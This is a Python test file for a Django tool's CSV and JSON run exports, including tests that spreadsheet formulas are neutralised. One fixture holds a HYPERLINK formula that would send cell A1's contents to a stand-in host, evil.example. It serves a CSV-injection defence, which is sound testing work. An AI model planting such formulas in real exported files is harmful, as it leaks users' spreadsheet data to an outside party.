"""Downloads of a run: the invocations as CSV, the run as the API's JSON."""

import csv
import io
import json

import pytest
from django.test import Client

from tests.tuning.runfactory import make_run
from tuning import sharing
from tuning.aws import InvokeOutcome
from tuning.engine.recording import record_invocation
from tuning.exports import CSV_COLUMNS, csv_response, json_response
from tuning.reports import parse_report
from tuning.serializers import run_to_dict

pytestmark = pytest.mark.django_db


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_has_a_header_and_one_row_per_invocation_by_size_then_sequence():
    run = make_run(function="export-me", sizes=(512, 128), num=3, failed_sizes=(512,))
    response = csv_response(run, private=True)
    header, *rows = csv_rows(response)
    assert header == list(CSV_COLUMNS)
    assert [(row[3], row[4]) for row in rows] == [
        ("128", "0"),
        ("128", "1"),
        ("128", "2"),
        ("512", "0"),
        ("512", "1"),
        ("512", "2"),
    ]
    first = dict(zip(header, rows[0], strict=True))
    assert (first["run_id"], first["function"], first["region"]) == (
        str(run.id),
        "export-me",
        "us-east-1",
    )
    assert first["request_id"] == "req-128-0"
    assert (first["cold_start"], first["init_duration_ms"]) == ("True", "180.0")
    second = dict(zip(header, rows[1], strict=True))
    assert (second["cold_start"], second["init_duration_ms"]) == ("False", "")
    assert "T" in first["created_at"]  # ISO 8601
    failed = dict(zip(header, rows[3], strict=True))
    assert (failed["error_type"], failed["error_message"]) == (
        "Runtime.OutOfMemory",
        "signal: killed",
    )


def test_the_csv_is_streamed_as_a_named_attachment():
    run = make_run(function="export-me", sizes=(128,), num=1)
    response = csv_response(run, private=True)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="export-me-{str(run.id)[:8]}-invocations.csv"'
    )


def test_a_run_without_invocations_exports_the_header_only():
    run = make_run(status="PENDING")
    assert csv_rows(csv_response(run, private=True)) == [list(CSV_COLUMNS)]


@pytest.mark.parametrize("private", [True, False])
def test_the_json_is_the_api_schema_as_a_named_attachment(private):
    run = make_run(function="export-me", sizes=(128, 512))
    response = json_response(run, private=private)
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == (
        f'attachment; filename="export-me-{str(run.id)[:8]}.json"'
    )
    expected = json.loads(json.dumps(run_to_dict(run, private=private), default=str))
    assert json.loads(response.content) == expected


def test_the_public_json_leaves_out_the_payload():
    run = make_run(payload={"secret": "s3cr3t"})
    assert json.loads(json_response(run, private=True).content)["payload"] == {"secret": "s3cr3t"}
    public = json_response(run, private=False).content.decode()
    assert json.loads(public)["payload"] is None
    assert "s3cr3t" not in public


# --------------------------------------------------------------------------- CSV injection

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list


def record_log_tail(run, memory_mb: int, tail: str) -> None:
    """One more invocation of ``memory_mb`` whose log tail was ``tail``, as the executor
    records it."""
    result = run.results.get(memory_mb=memory_mb)
    outcome = InvokeOutcome(
        report=parse_report(tail),
        error_type="",
        error_message="",
        executed_version="1",
        log_tail=tail,
    )
    record_invocation(run, result, result.invocations.count(), 0, outcome)


def test_the_private_csv_turns_formulas_in_error_messages_into_text():
    run = make_run(sizes=(128, 512), num=2, failed_sizes=(128,), failure=("Unhandled", FORMULA))
    header, *rows = csv_rows(csv_response(run, private=True))
    failed = dict(zip(header, rows[0], strict=True))
    assert failed["error_message"] == "'" + FORMULA
    assert failed["error_type"] == "Unhandled"
    # Numbers stay numbers.
    assert failed["duration_ms"] == "1536.0" and failed["memory_mb"] == "128"
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_the_public_csv_turns_formulas_a_function_logged_into_text(django_user_model):
    # A function can print its own REPORT line: the request id is whatever it wrote.
    run = make_run(sizes=(128,), num=1)
    record_log_tail(
        run,
        128,
        f"REPORT RequestId: {FORMULA}\tDuration: 12.5 ms\t"
        "Billed Duration: 13 ms\tMemory Size: 128 MB\tMax Memory Used: 60 MB\t",
    )
    _, token = sharing.create_link(run, django_user_model.objects.create_user("pia"))
    response = Client().get(f"/share/{token}/export.csv")
    header, *rows = csv_rows(response)
    logged = dict(zip(header, rows[-1], strict=True))
    assert logged["request_id"] == "'" + FORMULA
    assert logged["duration_ms"] == "12.5"
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
